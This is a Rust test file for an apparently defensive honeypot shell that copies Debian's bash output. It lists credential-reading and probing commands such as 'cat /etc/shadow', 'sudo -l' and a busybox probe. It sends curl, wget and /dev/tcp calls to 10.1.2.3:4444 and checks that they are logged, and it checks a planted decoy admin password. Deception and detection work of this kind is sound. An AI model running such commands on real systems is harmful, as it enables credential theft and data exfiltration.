//! Shell lines with what bash 5.2 and coreutils 9.1 of Debian 12 print.

use super::stand_in::{run, shell};

/// (line, standard output, standard error, status)
const LINES: &[(&str, &str, &str, i32)] = &[
    ("echo hi", "hi\n", "", 0),
    ("foo", "", "bash: line 1: foo: command not found\n", 127),
    ("cd /nope", "", "bash: line 1: cd: /nope: No such file or directory\n", 1),
    ("cat /nope", "", "cat: /nope: No such file or directory\n", 1),
    ("ls /nope", "", "ls: cannot access '/nope': No such file or directory\n", 2),
    ("echo $((6*7))", "42\n", "", 0),
    ("echo $((2**10)) $((7%3)) $((1<<4)) $((5>3?1:2))", "1024 1 16 1\n", "", 0),
    ("echo $((1/0))", "", "bash: line 1: 1/0: division by 0 (error token is \"0\")\n", 1),
    ("if", "", "bash: -c: line 2: syntax error: unexpected end of file\n", 2),
    ("echo \"x", "", "bash: -c: line 1: unexpected EOF while looking for matching `\"'\n", 2),
    (
        "ls | | wc",
        "",
        "bash: -c: line 1: syntax error near unexpected token `|'\nbash: -c: line 1: `ls | | wc'\n",
        2,
    ),
    (
        "echo )",
        "",
        "bash: -c: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `echo )'\n",
        2,
    ),
    ("[ 1 -eq a ]", "", "bash: line 1: [: a: integer expression expected\n", 2),
    ("rm /nope", "", "rm: cannot remove '/nope': No such file or directory\n", 1),
    ("mkdir /proc/x", "", "mkdir: cannot create directory ‘/proc/x’: No such file or directory\n", 1),
    ("cat /etc", "", "cat: /etc: Is a directory\n", 1),
    (". /nope", "", "bash: line 1: /nope: No such file or directory\n", 1),
    ("./nope", "", "bash: line 1: ./nope: No such file or directory\n", 127),
    ("/tmp", "", "bash: line 1: /tmp: Is a directory\n", 126),
    ("exec foo", "", "bash: line 1: exec: foo: not found\n", 127),
    ("read x <<< hi; echo $x", "hi\n", "", 0),
    ("kill 999999", "", "bash: line 1: kill: (999999) - No such process\n", 1),
    (
        "type ls cd foo",
        "ls is /usr/bin/ls\ncd is a shell builtin\n",
        "bash: line 1: type: foo: not found\n",
        1,
    ),
    ("chmod", "", "chmod: missing operand\nTry 'chmod --help' for more information.\n", 1),
    ("cd a b", "", "bash: line 1: cd: too many arguments\n", 1),
    ("exit x", "", "bash: line 1: exit: x: numeric argument required\n", 2),
    ("test 1 -foo 2", "", "bash: line 1: test: -foo: binary operator expected\n", 2),
    ("head -n x /etc/passwd", "", "head: invalid number of lines: ‘x’\n", 1),
    ("id foo", "", "id: ‘foo’: no such user\n", 1),
    ("echo ${x?bad}", "", "bash: line 1: x: bad\n", 127),
    ("x=5 y", "", "bash: line 1: y: command not found\n", 127),
    ("sleep a", "", "sleep: invalid time interval ‘a’\nTry 'sleep --help' for more information.\n", 1),
    ("mv a b", "", "mv: cannot stat 'a': No such file or directory\n", 1),
    (
        "cp a",
        "",
        "cp: missing destination file operand after 'a'\nTry 'cp --help' for more information.\n",
        1,
    ),
    ("find /nope", "", "find: ‘/nope’: No such file or directory\n", 1),
    ("stat /nope", "", "stat: cannot statx '/nope': No such file or directory\n", 1),
    ("file /nope", "/nope: cannot open `/nope' (No such file or directory)\n", "", 0),
    ("export 1a=2", "", "bash: line 1: export: `1a=2': not a valid identifier\n", 1),
    ("echo $-", "hBc\n", "", 0),
    ("echo $BASH_VERSION", "5.2.15(1)-release\n", "", 0),
    ("seq 3 | paste -sd+ 2>/dev/null; seq 1 2 7 | tr '\\n' ,", "1+2+3\n1,3,5,7,", "", 0),
    ("printf '%s-%03d|%-4s|%x\\n' a 7 b 255", "a-007|b   |ff\n", "", 0),
    ("printf '%d\\n' abc", "0\n", "bash: line 1: printf: abc: invalid number\n", 1),
    ("echo a b c | awk '{print $2, NF}'", "b 3\n", "", 0),
    ("printf '1\\n2\\n3\\n' | awk '{s+=$1} END {print s}'", "6\n", "", 0),
    ("awk -F: '$3==0 {print $1\":\"$7}' /etc/passwd", "root:/bin/bash\n", "", 0),
    ("echo hello | sed 's/l*o/X/;s/h/H/'", "HeX\n", "", 0),
    ("printf 'a\\nb\\nc\\n' | sed -n '2p;$p'", "b\nc\n", "", 0),
    ("echo foo123 | sed -E 's/([a-z]+)([0-9]+)/\\2-\\1/'", "123-foo\n", "", 0),
    ("printf 'b\\na\\nb\\n' | sort | uniq -c", "      1 a\n      2 b\n", "", 0),
    ("echo -n abc | md5sum", "900150983cd24fb0d6963f7d28e17f72  -\n", "", 0),
    ("echo hi | base64 | base64 -d", "hi\n", "", 0),
    ("echo -n abc | sha256sum | cut -c1-8", "ba7816bf\n", "", 0),
    ("printf 'a b\\n' | xxd", "00000000: 6120 620a                                a b.\n", "", 0),
    ("echo abc | od -c", "0000000   a   b   c  \\n\n0000004\n", "", 0),
    ("grep -c root /etc/passwd", "1\n", "", 0),
    (
        "grep -n '^s[yn]' /etc/passwd | cut -d: -f1,2",
        "4:sys\n5:sync\n19:systemd-network\n22:systemd-timesync\n",
        "",
        0,
    ),
    ("echo 'a.b' | grep -oE '[a-z]' | tr -d '\\n'", "ab", "", 0),
    ("grep zzz /etc/passwd", "", "", 1),
    ("for i in 1 2 3; do echo -n $i; done; echo", "123\n", "", 0),
    ("for ((i=0;i<3;i++)); do echo -n $i; done", "012", "", 0),
    ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); [ $i = 2 ] && continue; echo $i; done", "1\n3\n", "", 0),
    ("case abc in a*) echo yes;; *) echo no;; esac", "yes\n", "", 0),
    ("f() { echo \"$1-$#\"; return 3; }; f x y; echo $?", "x-2\n3\n", "", 0),
    ("cat <<E\nhome $HOME\nE", "home /home/hisop\n", "", 0),
    ("cat <<'E'\n$HOME\nE", "$HOME\n", "", 0),
    ("echo $(echo `echo deep`)", "deep\n", "", 0),
    ("x=\"a  b\"; echo $x; echo \"$x\"", "a b\na  b\n", "", 0),
    (
        "x=/usr/lib/x.tar.gz; echo ${x##*/} ${x%%.*} ${#x} ${x/usr/USR} ${x:1:3} ${y:-def}",
        "x.tar.gz /usr/lib/x 17 /USR/lib/x.tar.gz usr def\n",
        "",
        0,
    ),
    ("x=abc; echo ${x^^} ${x^}", "ABC Abc\n", "", 0),
    ("echo {a,b}{1..3}", "a1 a2 a3 b1 b2 b3\n", "", 0),
    ("echo 'it''s' \"q\\\"q\" a\\ b $'t\\tb'", "its q\"q a b t\tb\n", "", 0),
    ("false || echo or; true && echo and; ! true; echo $?", "or\nand\n1\n", "", 0),
    ("echo out; echo err >&2", "out\n", "err\n", 0),
    ("ls /nope 2>&1 | wc -l", "1\n", "", 0),
    ("(exit 7); echo $?", "7\n", "", 0),
    ("exit 7", "", "", 7),
    ("echo x > /tmp/a; echo y >> /tmp/a; cat /tmp/a; wc -c < /tmp/a", "x\ny\n4\n", "", 0),
    ("echo x > /etc/x", "", "bash: line 1: /etc/x: Permission denied\n", 1),
    ("cat /etc/shadow", "", "cat: /etc/shadow: Permission denied\n", 1),
    (
        "mkdir -p d/e/f && touch d/e/f/g && find d && rm -r d && ls d",
        "d\nd/e\nd/e/f\nd/e/f/g\n",
        "ls: cannot access 'd': No such file or directory\n",
        2,
    ),
    ("[[ abc == a* && 3 -gt 2 ]] && echo yes", "yes\n", "", 0),
    ("[[ x1 =~ ^x[0-9]$ ]] && echo yes", "yes\n", "", 0),
    ("echo 1 2 3 | xargs -n1 echo n", "n 1\nn 2\nn 3\n", "", 0),
    ("seq 5 | while read n; do [ $n -gt 3 ] && echo $n; done", "4\n5\n", "", 0),
    ("while read a b; do echo $b-$a; done < <(echo 1 2)", "2-1\n", "", 0),
    ("set -- a b c; shift; echo $1 $# \"$@\"", "b 2 b c\n", "", 0),
    ("bash -c 'echo $0 $1' x y", "x y\n", "", 0),
    ("eval 'z=5'; echo $z", "5\n", "", 0),
    ("unset HOME; echo [$HOME]", "[]\n", "", 0),
    ("basename /a/b.c .c; dirname /a/b.c", "b\n/a\n", "", 0),
    ("expr 3 + 4; expr 3 '*' 4", "7\n12\n", "", 0),
    ("uname -srm", "Linux 6.1.0-41-amd64 x86_64\n", "", 0),
    ("whoami; id -u; hostname; pwd", "hisop\n1000\nclzx-his01\n/home/hisop\n", "", 0),
    ("id", "uid=1000(hisop) gid=1000(hisop) groups=1000(hisop)\n", "", 0),
    ("date '+%F %T %z'", "2026-11-22 14:30:00 +0800\n", "", 0),
    ("date", "Sun Nov 22 14:30:00 CST 2026\n", "", 0),
    ("date +%s", "1795329000\n", "", 0),
    ("nproc; grep -c ^processor /proc/cpuinfo", "8\n8\n", "", 0),
    ("/bin/busybox NEBULA", "", "bash: line 1: /bin/busybox: No such file or directory\n", 127),
    ("python3 -c 'print(1)'", "", "bash: line 1: python3: command not found\n", 127),
    ("ifconfig", "", "bash: line 1: ifconfig: command not found\n", 127),
    ("tail -n 2 /etc/shells", "/bin/dash\n/usr/bin/dash\n", "", 0),
    ("head -c 4 /bin/ls | xxd -p", "7f454c46\n", "", 0),
    ("ls -d /etc/ssh /bin", "/bin\n/etc/ssh\n", "", 0),
    ("readlink /bin; cd /bin; pwd", "usr/bin\n/bin\n", "", 0),
    ("crontab -l", "", "no crontab for hisop\n", 1),
    (
        "sudo -l",
        "",
        "sudo: a terminal is required to read the password; either use the -S option to read from standard input or configure an askpass helper\nsudo: a password is required\n",
        1,
    ),
    (
        "wget",
        "",
        "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n",
        1,
    ),
    ("curl", "", "curl: try 'curl --help' or 'curl --manual' for more information\n", 2),
    ("which ls foo; echo $?", "/usr/bin/ls\n1\n", "", 0),
    ("true; echo $?; nosuch 2>/dev/null; echo $?", "0\n127\n", "", 0),
    ("echo a | tee /tmp/t | cat; cat /tmp/t", "a\na\n", "", 0),
    ("ulimit -n; umask", "1024\n0022\n", "", 0),
    ("echo ~ ~root ~nobody/x", "/home/hisop /root /nonexistent/x\n", "", 0),
];

#[test]
fn a_listing_has_the_form_of_gnu() {
    let (mut shell, _) = shell();
    let (out, _, _) = run(&mut shell, "ls -ld /home /tmp /bin /dev/null; ls -la ~ | head -4", &[]);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].starts_with("lrwxrwxrwx 1 root root    7 Mar 18  2024 /bin -> usr/bin"), "{out}");
    assert!(lines[1].starts_with("crw-rw-rw- 1 root root 1, 3 "), "{out}");
    assert!(lines[2].starts_with("drwxr-xr-x 3 root root 4096 "), "{out}");
    assert!(lines[3].starts_with("drwxrwxrwt 2 root root 4096 "), "{out}");
    assert_eq!(lines[4], "total 28");
    assert!(lines[5].starts_with("drwx------ 2 hisop hisop 4096 ") && lines[5].ends_with(" ."), "{out}");
}

#[test]
fn what_the_machine_tells_of_itself_agrees() {
    let (mut shell, _) = shell();
    let mut say = |line: &str| run(&mut shell, line, &[]).0;
    let boot: i64 = say("awk '/btime/ {print $2}' /proc/stat").trim().parse().unwrap();
    let up: f64 = say("cut -d' ' -f1 /proc/uptime").trim().parse().unwrap();
    let now = super::stand_in::now().as_second();
    assert_eq!(now - boot, up.trunc().to_string().parse::<i64>().unwrap());
    assert_eq!(
        say("date -d @$(grep btime /proc/stat | cut -c7-) '+%Y-%m-%d %H:%M'").trim(),
        say("who -b").trim().trim_start_matches("system boot").trim()
    );
    assert_eq!(say("free | awk '/Mem/ {print $2}'"), say("awk '/MemTotal/ {print $2}' /proc/meminfo"));
    assert_eq!(
        say("cat /sys/class/net/ens192/address").trim(),
        say("ip link | awk '/ether/ {print $2}' | tail -1").trim()
    );
    let pack = super::stand_in::pack();
    let bait = pack.host("his").unwrap().accounts.iter().find(|a| a.name == "hisadmin").unwrap();
    assert!(say("cat ~/portal.txt").contains(&bait.password));
    assert!(say("df -h /").starts_with("Filesystem      Size  Used Avail Use% Mounted on\n/dev/sda1       "));
}

#[test]
fn what_would_leave_is_told_and_fails() {
    use crate::event::Observation;
    let (mut shell, kept) = shell();
    assert_eq!(run(&mut shell, "curl -s http://example.com/x", &[]).2, 6);
    assert_eq!(run(&mut shell, "wget -q http://10.1.2.3/x", &[]).2, 4);
    assert_eq!(run(&mut shell, "echo x > /dev/tcp/10.1.2.3/4444", &[]).2, 1);
    let events = kept.events.lock().unwrap();
    let told: Vec<_> = events
        .iter()
        .filter_map(|o| match o {
            Observation::Tunnel { means, target, relayed: false } => {
                Some((means.clone(), target.as_untrusted().to_owned()))
            }
            _ => None,
        })
        .collect();
    let want =
        [("curl", "http://example.com/x"), ("wget", "http://10.1.2.3/x"), ("/dev/tcp", "10.1.2.3:4444")];
    assert_eq!(told, want.map(|(m, t)| (m.to_owned(), t.to_owned())));
}

#[test]
fn lines_print_what_debian_prints() {
    let mut wrong = Vec::new();
    for (line, out, error, status) in LINES {
        let (mut shell, _) = shell();
        let got = run(&mut shell, line, &[]);
        if got != ((*out).to_owned(), (*error).to_owned(), *status) {
            wrong.push(format!("{line}\n   want {:?}\n   got  {got:?}", (out, error, status)));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}
